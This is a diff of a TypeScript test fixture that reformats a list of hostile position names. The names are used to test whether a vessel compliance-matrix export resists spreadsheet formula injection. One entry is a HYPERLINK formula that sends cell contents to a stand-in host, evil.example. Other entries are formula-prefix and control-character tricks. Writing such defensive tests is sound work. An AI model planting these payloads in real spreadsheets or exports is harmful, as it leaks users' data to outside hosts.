@@ -8,8 +8,18 @@ const MATRIX = '/api/v2/employers/me/vessels/ves_a1/compliance-matrix';
 
 /** Position names an employer might hold, each one a way to break a spreadsheet open. */
 const HOSTILE = [
-  '=HYPERLINK("https://evil.example/?d="&A1,"Click")', '+1+2', '-1+2', '@SUM(A1:A9)', '\t=1+2', '\r=1+2',
-  'Chief\rOfficer', 'Chief\nOfficer', 'Chief\r\nOfficer', 'Master, "Senior"', '\uff1d1+2', 'Second Officer',
+  '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
+  '+1+2',
+  '-1+2',
+  '@SUM(A1:A9)',
+  '\t=1+2',
+  '\r=1+2',
+  'Chief\rOfficer',
+  'Chief\nOfficer',
+  'Chief\r\nOfficer',
+  'Master, "Senior"',
+  '\uff1d1+2',
+  'Second Officer',
 ];
 const crewId = (i: number) => `crew_p${String(i).padStart(2, '0')}`;
 
@@ -19,10 +29,21 @@ function fixture(): Record<string, unknown> {
   return {
     ...world,
     crew: [...world.crew!, ...HOSTILE.map((_, i) => ({ crew_unique_id: crewId(i), name: `Crew ${i}` }))],
-    assignments: [...world.assignments!, ...HOSTILE.map((position, i) => ({
-      crew_unique_id: crewId(i), vessel_id: 'ves_a1', role: 'master', position_name: position, status: 'active', as_of: '2026-10-01T00:00:00Z',
-    }))],
-    consents: [...world.consents!, ...HOSTILE.map((_, i) => ({ crew_unique_id: crewId(i), partner_id: 'ptn_full', categories: ['compliance'] }))],
+    assignments: [
+      ...world.assignments!,
+      ...HOSTILE.map((position, i) => ({
+        crew_unique_id: crewId(i),
+        vessel_id: 'ves_a1',
+        role: 'master',
+        position_name: position,
+        status: 'active',
+        as_of: '2026-10-01T00:00:00Z',
+      })),
+    ],
+    consents: [
+      ...world.consents!,
+      ...HOSTILE.map((_, i) => ({ crew_unique_id: crewId(i), partner_id: 'ptn_full', categories: ['compliance'] })),
+    ],
   };
 }
 
